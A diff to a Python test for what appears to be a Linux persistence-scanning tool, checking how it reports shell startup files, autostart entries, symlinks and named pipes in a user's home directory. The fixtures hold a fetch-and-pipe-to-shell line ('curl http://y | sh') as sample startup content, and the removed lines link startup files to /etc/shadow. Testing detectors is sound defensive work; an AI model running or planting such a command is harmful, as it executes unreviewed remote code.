@@ -179,16 +179,32 @@ class TestAutoruns:
         assert users["/home/alice/.bashrc"] == "alice"
         assert users["/etc/profile.d/x.sh"] == "every user"
 
-    def test_follow_no_link_of_a_user(self, root: Path) -> None:
-        (root / "home/alice/.zshrc").symlink_to("/etc/shadow")
-        os.mkfifo(root / "home/alice/.bash_login")
-        (root / "home/alice/.config/autostart/p.desktop").symlink_to("/etc/shadow")
-        (root / "home/alice/.config/autostart/c.desktop").write_bytes(b"Exec=\xff\nName\n=\n")
+    def test_show_where_links_of_a_user_lead(self, root: Path) -> None:
+        alice = root / "home/alice"
+        write(root, {"secret": "curl http://secret\n", "tmp/x": "curl http://y | sh\n"})
+        (root / "secret").chmod(0o600)
+        (alice / ".zshrc").symlink_to(root / "secret")
+        (alice / ".zshenv").symlink_to("../../tmp/x")
+        (alice / ".zlogin").symlink_to("/nowhere")
+        (alice / ".config/autostart/p.desktop").symlink_to(root / "secret")
+        (alice / ".config/autostart/c.desktop").write_bytes(b"Exec=\xff\nName\n=\n")
+        (alice / ".ssh/rc").unlink()
+        (alice / ".ssh/rc").symlink_to("rc")
+        os.mkfifo(alice / ".bash_login")
+        os.mkfifo(root / "tmp/pipe")
+        (alice / ".kshrc").symlink_to(root / "tmp/pipe")
 
         rows = rows_of("persistence.autoruns", root)
 
-        assert not any(".zshrc" in row["Path"] or ".bash_login" in row["Path"] for row in rows)
-        assert [row["What Runs"] for row in rows if row["Path"].endswith("c.desktop")] == [r"\xff"]
+        runs = {row["Path"].removeprefix("/home/alice/"): row["What Runs"] for row in rows}
+        assert runs[".zshrc"] == "link to /secret, which was not read"
+        assert runs[".zshenv"] == "link to /tmp/x: curl http://y | sh"
+        assert runs[".zlogin"] == "link to /nowhere, which was not read"
+        assert runs[".ssh/rc"] == "no file that can be read: link"
+        assert runs[".kshrc"] == "link to /tmp/pipe, which was not read"
+        assert runs[".bash_login"] == "no file that can be read: pipe"
+        assert runs[".config/autostart/p.desktop"] == "link to /secret, which was not read"
+        assert runs[".config/autostart/c.desktop"] == r"\xff"
 
     def test_name_the_packages_that_dpkg_names(self) -> None:
         query = program("dpkg-query")
